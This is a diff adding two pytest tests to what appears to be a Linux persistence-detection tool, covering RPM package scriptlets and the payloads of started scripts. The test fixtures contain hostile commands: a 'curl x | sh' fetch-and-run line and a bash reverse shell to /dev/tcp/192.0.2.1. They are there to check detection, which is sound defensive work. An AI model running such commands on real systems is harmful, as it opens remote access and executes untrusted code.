@@ -89,6 +89,29 @@ def test_other_programs_of_a_command_are_named(home):
     assert only(told(home, (), targets))["also"] == ["/opt/x"]
 
 
+def test_scripts_of_rpm_packages(home):
+    home.give(b"live/commands/rpm-scripts.txt", b"".join(
+        b"package p%d-1\npostinstall scriptlet (using /bin/sh):\n%s\n" % (number, b"curl x | sh" if number == 70 else b"ldconfig" * 900) for number in range(99)))
+    (row,) = told(home)["persistence"]
+    assert (row["mechanism"], row["trigger"], row["line"], row["user"]) == ("package_script", "rpm: a script of p70-1", 213, "root")
+
+
+def test_lines_of_scripts_that_are_started(home):
+    evil = b"#!/bin/bash\n# curl\nbash -c 'bash -i >& /dev/tcp/192.0.2.1/1 0>&1' &\n"
+    home.file(b"/usr/share/dbus-1/system-services/x.service", b"[D-BUS Service]\nName=x\nExec=/opt/link\n")
+    home.file(b"/opt/started", evil)
+    home.file(b"/opt/without-magic.sh", b"curl http://192.0.2.1/x\n")
+    home.file(b"/opt/elf", b"\x7fELF curl\n")
+    home.file(b"/var/www/never-started", evil)
+    targets = [{"path": "/opt/link", "real_path": "/opt/started", "exists": True, "sha256": "a", "archived": "[root]/opt/started"},
+               {"path": "/opt/without-magic.sh", "exists": True, "sha256": "b", "archived": "[root]/opt/without-magic.sh"},
+               {"path": "/opt/elf", "exists": True, "sha256": "c", "archived": "[root]/opt/elf"},
+               {"path": "/usr/bin/x", "exists": True, "sha256": "d", "package": "x"}]
+    rows = [row for row in told(home, (), targets)["persistence"] if row["mechanism"] == "payload"]
+    assert [(row["path"], row["line"], row["command"], row["unowned"]) for row in rows] == [
+        ("/opt/started", 3, "bash -c 'bash -i >& /dev/tcp/192.0.2.1/1 0>&1' &", True), ("/opt/without-magic.sh", 1, "curl http://192.0.2.1/x", True)]
+
+
 def test_home_stands_for_itself(home):
     home.file(b"/home/a/.config/systemd/user/x.service", b"[Service]\nExecStart=%h/x\n")
     home.file(b"/home/a/.bashrc", b". ~/y\n")
